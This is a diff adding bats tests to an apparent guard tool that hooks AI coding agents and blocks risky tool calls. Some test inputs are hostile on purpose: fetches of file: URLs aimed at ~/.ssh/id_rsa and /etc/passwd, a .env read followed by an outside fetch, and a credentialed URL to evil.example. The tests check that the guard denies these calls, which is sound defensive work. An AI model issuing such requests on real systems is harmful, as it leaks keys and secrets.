@@ -1,7 +1,7 @@
 #!/usr/bin/env bats
 # SPDX-License-Identifier: Apache-2.0
 # Hooks of agents: every answer is one that the dialect knows, and whatever fails is a denial.
-# shellcheck disable=SC2016 # single quotes hold commands for an agent's shell
+# shellcheck disable=SC2016,SC2030,SC2031 # single quotes hold commands for an agent's shell
 
 bats_require_minimum_version 1.5.0
 
@@ -349,6 +349,98 @@ cursor beforeShellExecution Shell'
 	[[ "$stderr" == *"not JSON"* ]]
 }
 
+# The four agents after a tool ran, with what their dialect can say: the whole output is replaced, the reason stands in
+# for it, or (Cursor, other tools than MCP) there is only a warning.
+AFTERS='claude-code PostToolUse Bash block+output
+claude-code PostToolUse mcp__a__b block+output
+codex PostToolUse Bash block
+gemini AfterTool run_shell_command deny
+cursor postToolUse MCP:x additional_context+updated_mcp_tool_output
+cursor postToolUse Shell additional_context'
+OUTPUT='{"stdout":"HELLO sailor","stderr":"","interrupted":false,"isImage":false,"a":[{"type":"text","text":"HELLO"},2,null]}'
+
+# withheld DIALECT EVENT TOOL WANT: the question in $PLACE/q, to $PROGRAM with the options in $MORE
+withheld() {
+	local code=0
+	# shellcheck disable=SC2086 # options
+	"$PROGRAM" hook "$1" ${MORE-} <"$PLACE/q" >"$PLACE/reply" 2>"$PLACE/line" || code=$?
+	[ "$code" -eq 0 ]
+	got=$("$CHECK" "$1" "$2" "$code" "$OUTPUT" <"$PLACE/reply")
+	[ "$got" = "$4" ]
+	run -1 grep -q HELLO "$PLACE/reply"
+	[ "$(wc -l <"$PLACE/line")" -eq 1 ]
+}
+
+@test "after the tool ran a failure of ours withholds the output, as far as the dialect can" {
+	[ -x "$LAYERS" ] || skip "the test program is not built"
+	PROGRAM=$LAYERS
+	while read -r dialect event tool want; do
+		# the control: without a failure nothing is said
+		asked "$dialect" "$event" "$tool" '{"command":"ls"}' "$OUTPUT"
+		[ "$got" = nothing ]
+		question "$dialect" "$event" "$tool" '{"command":"ls"}' "$OUTPUT" >"$PLACE/q"
+		for fault in hook-crash-kill hook-crash-exit hook-frame-magic hook-frame-short; do
+			CORDON_TEST_FAULT=$fault withheld "$dialect" "$event" "$tool" "$want"
+		done
+		MORE='--deadline 300ms' CORDON_TEST_FAULT=hook-crash-hang withheld "$dialect" "$event" "$tool" "$want"
+		grep -q 'too long' "$PLACE/line"
+	done <<<"$AFTERS"
+}
+
+@test "after the tool ran a policy or a record that fails withholds the output" {
+	while read -r dialect event tool want; do
+		question "$dialect" "$event" "$tool" '{"command":"ls"}' "$OUTPUT" >"$PLACE/q"
+		echo 'nonsense: [' >"$CORDON_CONFIG_DIR/policy.yaml"
+		withheld "$dialect" "$event" "$tool" "$want"
+		rm "$CORDON_CONFIG_DIR/policy.yaml"
+		rm -rf "$CORDON_STATE_DIR"
+		mkdir -p "$CORDON_STATE_DIR/audit.ndjson" # no file: nothing can be recorded
+		withheld "$dialect" "$event" "$tool" "$want"
+		rmdir "$CORDON_STATE_DIR/audit.ndjson"
+	done <<<"$AFTERS"
+}
+
+@test "after the tool ran an input that is too large, too deep, cut off or late withholds the output" {
+	while read -r dialect event tool want; do
+		question "$dialect" "$event" "$tool" '{"command":"ls"}' "$OUTPUT" >"$PLACE/whole"
+		# too large, behind an output that can be read; and with the output itself too large
+		python3 - "$PLACE/whole" "$PLACE/q" <<-'PY'
+			import sys
+			text = open(sys.argv[1]).read().rstrip()
+			open(sys.argv[2], 'w').write(text[:-1] + ', "more": "' + 'x' * 17000000 + '"}')
+		PY
+		withheld "$dialect" "$event" "$tool" "$want"
+		grep -q 'too large' "$PLACE/line"
+		OUTPUT='{"stdout":"","stderr":"","interrupted":false,"isImage":false}'
+		[ "$tool" = Bash ] || OUTPUT='""'
+		python3 - "$PLACE/whole" "$PLACE/q" <<-'PY'
+			import sys
+			text = open(sys.argv[1]).read()
+			open(sys.argv[2], 'w').write(text.replace('sailor', 'x' * 17000000))
+		PY
+		withheld "$dialect" "$event" "$tool" "$want"
+		head -c -20 "$PLACE/whole" >"$PLACE/q"
+		withheld "$dialect" "$event" "$tool" "$want"
+		OUTPUT='{"stdout":"HELLO sailor","stderr":"","interrupted":false,"isImage":false,"a":[{"type":"text","text":"HELLO"},2,null]}'
+		python3 - "$PLACE/whole" "$PLACE/q" <<-'PY'
+			import sys
+			text = open(sys.argv[1]).read().rstrip()
+			open(sys.argv[2], 'w').write(text[:-1] + ', "more": ' + '[' * 100000 + ']' * 100000 + '}')
+		PY
+		withheld "$dialect" "$event" "$tool" "$want"
+		# all of it is there, but the end never comes
+		code=0
+		{ cat "$PLACE/whole"; sleep 2; } | "$PROGRAM" hook "$dialect" --deadline 400ms \
+			>"$PLACE/reply" 2>"$PLACE/line" || code=$?
+		[ "$code" -eq 0 ]
+		[ "$("$CHECK" "$dialect" "$event" "$code" "$OUTPUT" <"$PLACE/reply")" = "$want" ]
+		grep -q 'in time' "$PLACE/line"
+	done <<<"$AFTERS"
+	# before the tool runs all of these are a plain "no"
+	question claude-code PreToolUse Bash "$(shell true)" | head -c -20 >"$PLACE/q"
+	run -2 "$CORDON" hook claude-code <"$PLACE/q"
+}
+
 @test "a worker that hangs is killed at the deadline" {
 	[ -x "$LAYERS" ] || skip "the test program is not built"
 	question claude-code PreToolUse Bash "$(shell true)" >"$PLACE/q"
@@ -386,6 +478,51 @@ cursor beforeShellExecution Shell'
 	[ "$got" != nothing ]
 }
 
+@test "a session remembers every path and every URL of a call, not only the first" {
+	enforce
+	asked claude-code PreToolUse mcp__fs__read_many "{\"paths\":[\"$PLACE/w/a.txt\",\"$PLACE/w/b.txt\"]}"
+	asked claude-code PreToolUse WebFetch '{"url":"https://elsewhere.example/","prompt":"x"}'
+	[ "$got" = nothing ] # the control
+	asked claude-code PreToolUse mcp__fs__read_many "{\"paths\":[\"$PLACE/w/a.txt\",\"$PLACE/w/.env\"]}"
+	# a URL of this machine first
+	asked claude-code PreToolUse web_fetch '{"prompt":"http://localhost:3000/ and https://elsewhere.example/"}'
+	[ "$got" != nothing ]
+	[[ "$reply" == *SEQ-001* || "$reply" == *taint* ]]
+}
+
+@test "what is refused is written down without what may be secret in its URL" {
+	enforce 'dry_run: true' 'sandbox: {capabilities: {network: {mode: allowlist, allowed_hosts: [good.example]}}}'
+	asked claude-code PreToolUse WebFetch '{"url":"https://anna:hunter2@evil.example/p?token=hunter3","prompt":"x"}'
+	[ "$got" = deny ]
+	grep -q evil.example "$CORDON_STATE_DIR/audit.ndjson"
+	run -1 grep -rE 'hunter[23]' "$CORDON_STATE_DIR"
+	enforce
+	asked claude-code PreToolUse WebFetch '{"url":"http://anna:hunter2@0x7f.1/p?token=hunter3","prompt":"x"}'
+	run -1 grep -rE 'hunter[23]' "$CORDON_STATE_DIR"
+}
+
+@test "Cursor's MCP tools are what the server calls them, never the agent's own" {
+	# An MCP tool of the name of one of Cursor's: its texts are looked at
+	enforce 'dry_run: true' 'policy: {rules: [{id: r, action: deny, scope: tool, match: {name: "MCP:Read"}}, {id: rest, action: allow, scope: all}]}'
+	asked cursor beforeMCPExecution Read '{"note":"x"}'
+	[ "$got" = deny ]
+	asked cursor beforeMCPExecution Other '{"note":"x"}'
+	[ "$got" = nothing ]
+	asked cursor preToolUse Read "{\"file_path\":\"$PLACE/w/x\"}"
+	[ "$got" = nothing ]
+}
+
+@test "file: URLs are paths, however they are written" {
+	enforce
+	mkdir -p "$HOME/.ssh"
+	for url in "file://$HOME/.ssh/id_rsa" "FILE:$HOME/.ssh/id_rsa" "file://localhost$HOME/%2essh/id_rsa?x#y"; do
+		asked claude-code PreToolUse WebFetch "{\"url\":\"$url\",\"prompt\":\"x\"}"
+		[ "$got" != nothing ]
+	done
+	asked claude-code PreToolUse WebFetch '{"url":"file://other.example/etc/passwd","prompt":"x"}'
+	[ "$got" = exit ]
+}
+
 @test "install, test, uninstall: everything else in the file stays as it is" {
 	while read -r agent file; do
 		rm -rf "${HOME:?}/.claude" "$HOME/.codex" "$HOME/.gemini" "$HOME/.cursor"
@@ -407,7 +544,7 @@ cursor beforeShellExecution Shell'
 		grep -q '"other"' "$HOME/$file"
 		grep -qF '"z" : 1.50,' "$HOME/$file"
 		grep -qF '"\u0061": "\/é"' "$HOME/$file"
-		cmp "$PLACE/before" "$HOME/$file.cordon-backup"
+		cmp "$PLACE/before" "$HOME/$file.cordon-backup.1" # the first is of the uninstall above
 		run -0 "$CORDON" hook uninstall "$agent"
 		[ "$agent" = cursor ] || cmp "$PLACE/before" "$HOME/$file"
 		run -0 "$CORDON" hook uninstall "$agent"
@@ -465,6 +602,59 @@ cursor beforeShellExecution Shell'
 	run -0 "$CORDON" hook install claude-code
 	[ -L "$HOME/.claude/settings.json" ]
 	grep -q hooks "$HOME/dotfiles/s.json"
+}
+
+@test "backups are never overwritten" {
+	mkdir -p "$HOME/.claude"
+	for i in 0 1 2; do
+		echo "{\"n\": $i}" >"$HOME/.claude/settings.json"
+		run -0 "$CORDON" hook install claude-code
+	done
+	grep -q 0 "$HOME/.claude/settings.json.cordon-backup"
+	grep -q 1 "$HOME/.claude/settings.json.cordon-backup.1"
+	grep -q 2 "$HOME/.claude/settings.json.cordon-backup.2"
+}
+
+@test "installs at the same time lose nothing" {
+	mkdir -p "$HOME/.claude"
+	echo '{}' >"$HOME/.claude/settings.json"
+	# the lock is waited for: while somebody holds it nothing is written
+	exec 5<"$HOME/.claude"
+	flock 5
+	"$CORDON" hook install claude-code 5<&- >"$PLACE/out" &
+	installer=$!
+	sleep 0.5
+	[ "$(cat "$HOME/.claude/settings.json")" = '{}' ]
+	echo '{"mine": 1}' >"$HOME/.claude/settings.json" # by one that had the lock
+	exec 5<&-
+	wait "$installer"
+	grep -q '"mine": 1' "$HOME/.claude/settings.json"
+	grep -q PreToolUse "$HOME/.claude/settings.json"
+}
+
+@test "settings that turn all hooks off are named, and test fails" {
+	mkdir -p "$HOME/.claude"
+	run -0 --separate-stderr "$CORDON" hook install claude-code
+	[ -z "$stderr" ]
+	run -0 "$CORDON" hook test claude-code
+	echo '{"disableAllHooks": true}' >"$HOME/.claude/settings.json"
+	run -0 --separate-stderr "$CORDON" hook install claude-code
+	[[ "$stderr" == *disableAllHooks* ]]
+	run -125 --separate-stderr "$CORDON" hook test claude-code
+	[[ "$stderr" == *disableAllHooks* ]]
+	# also from another file that the agent reads
+	rm "$HOME/.claude/settings.json"
+	echo '{"disableAllHooks": true}' >"$HOME/.claude/settings.local.json"
+	run -0 --separate-stderr "$CORDON" hook install claude-code
+	[[ "$stderr" == *settings.local.json*disableAllHooks* ]]
+}
+
+@test "a program that was replaced while it ran does not install itself" {
+	cp "$CORDON" "$PLACE/cordon"
+	# the program starts by its descriptor when its name is gone
+	run -125 bash -c 'exec 7<"$1"; rm "$1"; exec /proc/self/fd/7 hook install claude-code' _ "$PLACE/cordon"
+	[[ "$output" == *"removed or replaced"* ]]
+	[ ! -e "$HOME/.claude/settings.json" ]
 }
 
 @test "test notices a hook that does not hold" {
